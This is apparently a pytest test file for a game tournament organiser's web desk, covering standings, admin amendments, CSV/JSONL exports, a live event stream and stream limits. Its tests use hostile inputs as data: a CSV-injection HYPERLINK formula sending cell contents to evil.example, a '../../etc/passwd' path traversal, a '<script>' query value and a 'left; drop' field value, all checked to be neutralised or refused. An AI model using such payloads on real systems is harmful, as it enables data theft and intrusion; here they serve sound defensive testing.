"""The desk's pages over the hand-made event t (conftest.event_t): standings, public pages without
admin controls, amendments beside the signed record, exports, the live stream."""
from __future__ import annotations

import json
import re
import threading
import time

from deskhelp import csrf_of
from kit import xw

PUBLIC = ("/", "/e/t/standings", "/e/t/projector", "/e/t/part/standings", "/e/t/part/results",
          "/e/t/part/pairings", "/e/t/final")


def places(html: str) -> list[tuple[str, str]]:
    return re.findall(r'data-testid="standings-row" data-player="([^"]+)" data-place="([^"]+)"', html)


def test_the_standings_page_ranks_by_hand(client):
    r = client.get("/e/t/standings")
    assert r.status_code == 200
    assert places(r.text) == [("Dao", "1"), ("Boon", "2"), ("Anan", "3"), ("Chai", "4")]
    assert 'data-testid="live-standings"' in r.text and "XW-7" in r.text


def test_public_pages_show_no_admin_control_even_to_the_organiser(organiser):
    for path in PUBLIC:
        r = organiser.get(path)
        assert r.status_code == 200, path
        assert "data-admin" not in r.text and "/admin" not in r.text, path


def test_an_unknown_event_or_page_is_not_found(client):
    assert client.get("/e/nope/standings").status_code == 404
    assert client.get("/e/t/part/secrets").status_code == 404
    assert client.get("/e/" + "x" * 200 + "/standings").status_code == 404
    assert client.get("/fonts/../../etc/passwd").status_code == 404


def test_the_language_is_taken_from_the_query_and_kept(client):
    r = client.get("/e/t/standings?lang=th")
    assert "ตารางคะแนน" in r.text and r.cookies.get("gameclock_lang") == "th"
    assert "ตารางคะแนน" in client.get("/e/t/standings").text   # the cookie keeps it
    assert "<html lang=\"en\">" in client.get("/e/t/standings?lang=en").text
    assert "<html lang=\"en\">" in client.get("/e/t/standings?lang=<script>").text  # only en and th


def test_an_amendment_is_kept_beside_the_signed_record_with_its_reason(organiser):
    store = organiser.app.state.desk.store
    before = store.result("clock1-000001")
    page = organiser.get("/admin/results/clock1-000001")
    assert page.status_code == 200 and 'data-testid="amend-form"' in page.text
    token = csrf_of(page.text)
    r = organiser.post("/admin/results/clock1-000001/amend", data={"csrf": token, "outcome": "left",
                                                                 "score_left": "", "score_right": "", "reason": " "})
    assert r.status_code == 400 and "An amendment needs a reason." in r.text
    assert store.amendments() == []
    r = organiser.post("/admin/results/clock1-000001/amend",
                       data={"csrf": token, "outcome": "", "score_left": "430", "score_right": "380",
                             "reason": "score slip says 430"})
    assert r.status_code == 303
    [a] = store.amendments("clock1-000001")
    # kept whole: the outcome in effect (Anan, left, still wins), XW-6 2/0, XW-8 430-380 = +50 (under the
    # secondary cap 250)
    assert a["changes"] == {"outcome": "left", "scores.final": {"left": 430, "right": 380},
                            "scores.game_points": {"left": 2, "right": 0},
                            "scores.spread": {"left": 50, "right": -50}}
    assert a["reason"] == "score slip says 430"
    assert store.result("clock1-000001") == before   # the signed record as it was
    page = organiser.get("/admin/results/clock1-000001")
    assert page.text.count('data-testid="amendment-row"') == 1 and "score slip says 430" in page.text


def test_a_bad_score_or_outcome_is_refused(organiser):
    token = csrf_of(organiser.get("/admin/results/clock1-000001").text)
    for data in ({"score_left": "12x"}, {"outcome": "left; drop"}):
        r = organiser.post("/admin/results/clock1-000001/amend", data={"csrf": token, "reason": "r", **data})
        assert r.status_code == 400
    assert organiser.app.state.desk.store.amendments() == []


def test_exports_download(organiser):
    r = organiser.get("/admin/e/t/export/csv")
    assert r.status_code == 200 and 'filename="t.csv"' in r.headers["content-disposition"]
    assert "Dao" in r.text and "Chai" in r.text
    r = organiser.get("/admin/e/t/export/jsonl")
    assert r.status_code == 200 and len(r.text.splitlines()) == 4
    r = organiser.get("/admin/e/t/export/tsh")
    assert r.status_code == 200 and 'filename="t.t"' in r.headers["content-disposition"]
    assert len(r.text.splitlines()) == 4    # a line per player
    assert organiser.get("/admin/e/t/export/exe").status_code == 404


def test_the_csv_export_writes_a_name_a_spreadsheet_would_run_as_text(organiser):
    """Issue 24, B7 (OWASP "CSV Injection"): the desk's CSV has a BOM so a spreadsheet opens it at a
    click; a name beginning with = (a formula) went into it unchanged."""
    import csv
    import io

    name = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    # round 3, table 1: 300 v 330, Anan wins by 30 (XW-8): spread1 -30
    organiser.app.state.desk.store.put_result(xw(5, "t", 3, 1, name, "Anan", 300, 330), "0" * 64, "kid0", "test")
    r = organiser.get("/admin/e/t/export/csv")
    assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")
    rows = [x for x in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))) if x["round"] == "3"]
    # a single quote first (the spreadsheet shows the cell as text), then the name, readable
    assert [(x["player1"], x["spread1"], x["winner"]) for x in rows] == [("'" + name, "-30", "Anan")]
    assert ',"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",300,' in r.content.decode("utf-8-sig")


def test_the_stream_says_a_result_stored_after_it_began(app, client):
    store = app.state.desk.store

    def later():
        time.sleep(0.5)
        store.put_result(xw(5, "t", 3, 1, "Anan", "Chai", 300, 200), "0" * 64, "kid0", "test")
        store.put_result(xw(6, "other", 1, 1, "X", "Y", 300, 200), "0" * 64, "kid0", "test")

    t = threading.Thread(target=later)
    t.start()
    r = client.get("/e/t/stream")   # the stream ends after stream_seconds (1.5 s here)
    t.join()
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
    events = re.findall(r"event: (\w+)\ndata: (.*)\n\n", r.text)
    assert events[0][0] == "hello"
    told = [json.loads(data) for kind, data in events if kind == "result"]
    # the result, with the live version it is (issue 28: the pages fetch the shared fragments of that version)
    assert [{k: x[k] for k in ("id", "round", "table")} for x in told] == [{"id": "clock1-000005", "round": 3,
                                                                          "table": 1}]
    assert all(isinstance(x["v"], int) and x["v"] > 0 for x in told)
    assert "clock1-000006" not in r.text      # another event's result is not this stream's
    assert [k for k, _ in events].index("standings") > [k for k, _ in events].index("result")


def test_the_public_menu_leads_to_the_latest_pairings_and_odd_query_values_are_ignored(client):
    """Found by a fresh-eyes review: nothing led to the pairings, and ?every=² (a digit to
    str.isdigit, not to int) was a 500 on the projector."""
    page = client.get("/e/t/standings").text
    assert 'href="/e/t/pairings"' in page
    assert client.get("/e/t/pairings").status_code == 404   # event t: results, no pairings published
    assert client.get("/e/nobody/pairings").status_code == 404
    for odd in ("²", "٣٠", "9999", "-5", ""):
        r = client.get("/e/t/projector", params={"every": odd})
        assert r.status_code == 200 and 'data-rotate="12"' in r.text, odd
    assert 'data-rotate="30"' in client.get("/e/t/projector?every=30").text


def test_one_address_opens_at_most_sixteen_live_streams(app, client):
    """Each stream wakes every poll for minutes: a runaway (or hostile) device opening them without end
    is refused past 16 at once (429), and what it closed is counted back (found by a fresh-eyes review)."""
    from gameclock.organiser.desk.public import MAX_STREAMS_A_CLIENT

    desk = app.state.desk
    desk.streams["127.0.0.1"] = MAX_STREAMS_A_CLIENT          # sixteen open from this PC
    assert client.get("/e/t/stream").status_code == 429
    desk.streams["127.0.0.1"] = MAX_STREAMS_A_CLIENT - 1
    r = client.get("/e/t/stream")                              # the sixteenth runs to its end (1.5 s)
    assert r.status_code == 200 and "event: hello" in r.text
    assert desk.streams == {"127.0.0.1": MAX_STREAMS_A_CLIENT - 1}   # counted while open, given back
